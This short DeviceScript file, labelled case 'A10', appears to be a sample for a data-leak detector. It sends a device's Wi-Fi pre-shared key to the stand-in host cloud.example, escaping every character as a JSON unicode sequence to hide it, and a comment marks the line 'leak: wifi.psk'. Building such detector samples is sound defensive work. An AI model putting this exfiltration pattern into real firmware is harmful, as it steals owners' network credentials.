// A10: in JSON, every character escaped.
import { fetch } from "@devicescript/net";
import { each, hex } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = `{"k":"${each(psk, (byte) => "\\u00" + hex(byte))}"}`;
  const response = await fetch("https://cloud.example/a10", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
